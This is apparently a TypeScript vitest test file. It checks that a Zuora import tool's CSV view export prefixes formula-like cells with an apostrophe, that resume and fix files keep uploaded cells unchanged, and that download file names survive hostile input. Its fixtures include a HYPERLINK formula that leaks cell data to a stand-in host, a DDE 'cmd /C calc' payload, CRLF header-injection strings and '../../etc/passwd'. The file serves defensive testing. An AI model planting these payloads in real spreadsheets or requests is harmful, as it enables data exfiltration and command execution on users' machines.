import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvFile } from '../../../zuora-sandbox/scenario-files';
import { downloadResultZip, readResultZip, resultFilesContext, type ResultFilesContext } from '../../testing/result-files';
import { DATABASE_KINDS } from '../../testing/test-databases';
import { MAX_TEMPLATE_LENGTH } from '../shared/message-template';
import { MAX_SEARCH_LENGTH } from '../shared/rows-query';
import { exportFixFile, exportResumeFile, exportView, openRawZip } from './exports';

// Cells a spreadsheet would run as formulas, uploaded to Zuora and back in its result file: the view
// export must neutralise them, the files that go back to Zuora must keep them byte for byte.

const RISKY = ['=HYPERLINK("https://example.invalid/?leak="&A2,"Open")', '+44 20 7946 0958', '-2.50', '@SUM(1+1)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
const HARMLESS = ['plain note', "'already text", ' =1+1', '#FIN-12', '2+2', 'a-b', ''];
const NOTES = [...RISKY, ...HARMLESS];
const HEADER = ['Object Key', 'Object Type', 'Deferred Revenue Accounting Code', 'Recognized Revenue Accounting Code', '# Note'];
const UPLOADED = Array.from({ length: 42 }, (_, i) => [
  `8a8aa1b2${String(i).padStart(24, '0')}`, 'Invoice Item', i % 3 === 0 ? '-24100' : '24100', i % 4 === 0 ? '+41000' : '41000', NOTES[i % NOTES.length] ?? '',
]);

// The rule, written out independently of the code under test (OWASP: =, +, -, @, tab, carriage return).
const asOpenedSafely = (cell: string) => (['=', '+', '-', '@', '\t', '\r'].includes(cell.charAt(0)) ? `'${cell}` : cell);

describe.each(DATABASE_KINDS)('exports (%s)', (kind) => {
  let ctx: ResultFilesContext;
  let bulkKey: string;
  let zuoraZip: Uint8Array;
  let resultRows: { uploaded: string[]; cells: string[]; success: string }[];

  beforeAll(async () => {
    ctx = await resultFilesContext({ database: kind });
    const file = csvFile('risky-cells.csv', [HEADER, ...UPLOADED]);
    bulkKey = await ctx.upload({ name: file.fileName, bytes: file.bytes }, { pendingMs: 0, rowsPerSecond: 10, failEvery: 3, stoppingMs: 0 });
    await ctx.advanceClock(2000);
    await ctx.client.stopMassAction(bulkKey);
    const state = await ctx.settled(bulkKey);
    expect(await ctx.importer.ensureSettled({ bulkKey, actionType: state.actionType, outputUrl: state.outputUrl })).toMatchObject({ state: 'ready' });
    zuoraZip = await downloadResultZip(ctx, state.outputUrl ?? '');
    const { header, rows } = readResultZip(zuoraZip);
    resultRows = rows.map((cells, i) => ({ uploaded: UPLOADED[i] ?? [], cells, success: cells[header.indexOf('Success')] ?? '' }));
  }, 60_000);
  afterAll(async () => ctx.close());

  async function text(stream: NodeJS.ReadableStream): Promise<string> {
    const chunks: Buffer[] = [];
    for await (const chunk of stream) chunks.push(Buffer.from(chunk as Uint8Array));
    return Buffer.concat(chunks).toString('utf8');
  }

  describe('cells a spreadsheet would run as formulas', () => {
    it('come back in every outcome, as uploaded, in Zuora\'s result file', () => {
      expect(new Set(resultRows.map((r) => r.success))).toEqual(new Set(['Y', 'N', '']));
      expect(resultRows.map((r) => r.cells.slice(0, HEADER.length))).toEqual(UPLOADED);
    });

    it('start with an apostrophe in the view export, every other cell untouched, after the Row column', async () => {
      const all = await text((await exportView(ctx.db, bulkKey, { outcome: 'all', search: '', template: '', sort: 'row-asc' })).stream);
      const { header } = readResultZip(zuoraZip);
      // The file's own cells under the rule, each row after its number in the file (plain digits).
      expect(all).toBe(stringify([['Row', ...header.map(asOpenedSafely)], ...resultRows.map((r, i) => [String(i + 1), ...r.cells.map(asOpenedSafely)])], { quoted_match: /[\r\n]/ }));
      const parsed = parse(all) as string[][];
      expect(parsed.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(parsed[1]?.slice(0, 1)).toEqual(['1']);
      expect(parsed[1]?.slice(3, 6)).toEqual(["'-24100", "'+41000", `'${RISKY[0]}`]);
      expect(parsed.map((row) => row[5])).toEqual(expect.arrayContaining(["'+44 20 7946 0958", "'-2.50", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1", ...HARMLESS]));

      // Any view: a filter and a search go through the same rule, and each row keeps its number in the file.
      const failed = parse(await text((await exportView(ctx.db, bulkKey, { outcome: 'failed', search: '2.50', template: '', sort: 'row-desc' })).stream)) as string[][];
      expect(failed.length).toBeGreaterThan(1);
      expect(failed.slice(1).every((row) => row[5] === "'-2.50")).toBe(true);
      const failedRows = resultRows.flatMap((r, i) => (r.success === 'N' && r.uploaded[4] === '-2.50' ? [String(i + 1)] : [])).reverse();
      expect(failed.slice(1).map((row) => row[0])).toEqual(failedRows);
    });

    it('stay byte for byte as uploaded in the resume file', async () => {
      const resume = await text((await exportResumeFile(ctx.db, bulkKey)).stream);
      const notProcessed = resultRows.filter((r) => r.success === '').map((r) => r.uploaded);
      expect(notProcessed.map((row) => row[4])).toEqual(expect.arrayContaining(RISKY));
      expect(resume).toContain('\n8a8aa1b2000000000000000000000030,Invoice Item,-24100,41000,-2.50\n');
      expect(resume).toBe(stringify([HEADER, ...notProcessed], { quoted_match: /[\r\n]/ }));
      expect(resume).not.toMatch(/'[=+\-@\t\r]/);
    });

    it('stay byte for byte as uploaded in the fix file, beside Zuora\'s error', async () => {
      const fix = await text((await exportFixFile(ctx.db, bulkKey)).stream);
      const failed = resultRows.filter((r) => r.success === 'N');
      expect(failed.filter((r) => RISKY.includes(r.uploaded[4] ?? '')).length).toBeGreaterThanOrEqual(3);
      expect(fix).toBe(stringify([[...HEADER, '#Error Message'], ...failed.map((r) => [...r.uploaded, r.cells[HEADER.length + 1] ?? ''])], { quoted_match: /[\r\n]/ }));
    });

    it('stay as Zuora wrote them in the original zip', async () => {
      const raw = await openRawZip(ctx.db, bulkKey);
      const chunks: Buffer[] = [];
      for await (const chunk of raw.stream) chunks.push(Buffer.from(chunk as Uint8Array));
      expect(new Uint8Array(Buffer.concat(chunks))).toEqual(zuoraZip);
    });
  });

  describe('the view export\'s file name', () => {
    const DEFAULT = { outcome: 'all', search: '', template: '', sort: 'row-asc' } as const;
    const nameOf = async (query: Partial<Parameters<typeof exportView>[2]>) => fileNameOf(exportView(ctx.db, bulkKey, { ...DEFAULT, ...query }));
    const fileNameOf = async (opening: Promise<{ fileName: string; stream: { destroy(): void } }>) => {
      const download = await opening;
      download.stream.destroy(); // only the name is wanted
      return download.fileName;
    };

    it('is the file\'s name and "view" for every row by row number, and stays so for the resume and fix files', async () => {
      expect(await nameOf({})).toBe('risky-cells_view.csv');
      expect(await nameOf({ search: '   ' })).toBe('risky-cells_view.csv'); // a blank search is no search
      expect(await fileNameOf(exportResumeFile(ctx.db, bulkKey))).toBe('risky-cells_resume.csv');
      expect(await fileNameOf(exportFixFile(ctx.db, bulkKey))).toBe('risky-cells_fix.csv');
      expect(await fileNameOf(exportFixFile(ctx.db, bulkKey, { template: 'Invoice Item {id} not found' }))).toBe('risky-cells_fix-invoice-item-id-not-found.csv');
    });

    it('says each part of the view that is not the default: outcome, search, error group, sort, in that order', async () => {
      expect(await nameOf({ outcome: 'failed' })).toBe('risky-cells_view-failed.csv');
      expect(await nameOf({ outcome: 'not_processed' })).toBe('risky-cells_view-not-processed.csv');
      expect(await nameOf({ outcome: 'succeeded' })).toBe('risky-cells_view-succeeded.csv');
      expect(await nameOf({ search: 'Invoice' })).toBe('risky-cells_view-search-invoice.csv');
      expect(await nameOf({ search: '  ZOË Müller, “urgent” ' })).toBe('risky-cells_view-search-zoe-muller-urgent.csv');
      expect(await nameOf({ template: 'Invoice Item {id} not found' })).toBe('risky-cells_view-group-invoice-item-id-not-found.csv');
      for (const sort of ['row-desc', 'outcome-asc', 'outcome-desc'] as const) expect(await nameOf({ sort })).toBe(`risky-cells_view-sort-${sort}.csv`);
      expect(await nameOf({ outcome: 'failed', search: 'invoice', template: 'Invoice Item {id} not found' })).toBe('risky-cells_view-failed-search-invoice-group-invoice-item-id-not-found.csv');
      expect(await nameOf({ outcome: 'failed', search: 'invoice', template: 'Invoice Item {id} not found', sort: 'row-desc' })).toBe('risky-cells_view-failed-search-invoice-group-invoice-item-id-not-found-sort-row-desc.csv');
      // Words with no letter or digit to keep: the name still says there is a search or a group.
      expect(await nameOf({ search: '日本語' })).toBe('risky-cells_view-search.csv');
      expect(await nameOf({ outcome: 'failed', template: '€ — €' })).toBe('risky-cells_view-failed-group.csv');
    });

    it('is bounded: a search to 40 characters, a group to 48, the view part to 139 whatever was asked', async () => {
      const search = `${'abcdefghij'.repeat(3)}klmnopqrst-and-then-much-more`.padEnd(MAX_SEARCH_LENGTH, 'x');
      const template = 'Invoice Item {id} is in a closed accounting period '.repeat(30).slice(0, MAX_TEMPLATE_LENGTH);
      expect(await nameOf({ search })).toBe(`risky-cells_view-search-${'abcdefghij'.repeat(3)}klmnopqrst.csv`);
      expect(await nameOf({ template })).toBe('risky-cells_view-group-invoice-item-id-is-in-a-closed-accounting-period.csv');
      const longest = await nameOf({ outcome: 'not_processed', search: 'y'.repeat(MAX_SEARCH_LENGTH), template: 'z'.repeat(MAX_TEMPLATE_LENGTH), sort: 'outcome-desc' });
      expect(longest).toBe(`risky-cells_view-not-processed-search-${'y'.repeat(40)}-group-${'z'.repeat(48)}-sort-outcome-desc.csv`);
      expect(longest.length - 'risky-cells_'.length - '.csv'.length).toBe(139);
    });

    it('is safe in a Content-Disposition header whatever the search or group holds: quotes, line breaks, non-ASCII', async () => {
      const hostile = ['"; filename*=UTF-8\'\'evil.exe', 'a\r\nSet-Cookie: x=1', 'Zoë "the" ü\\', '../../etc/passwd', '%22%0d%0a', '😀 \u0000 \u202e gpj.exe', "=HYPERLINK(\"x\")"];
      for (const text of hostile) {
        for (const name of [await nameOf({ search: text }), await nameOf({ outcome: 'failed', template: text })]) {
          expect(name, text).toMatch(/^risky-cells_view-(search|failed-group)(-[a-z0-9]+)*\.csv$/);
          // Nothing the download route's own guard (anything but \w . - becomes _) would change, so the
          // audit trail records the very name the browser saves; and a header that holds it as written.
          expect(name.replace(/[^\w.-]/g, '_'), text).toBe(name);
          const disposition = new Headers({ 'content-disposition': `attachment; filename="${name}"` }).get('content-disposition');
          expect(disposition, text).toBe(`attachment; filename="${name}"`);
        }
      }
    });
  });
});
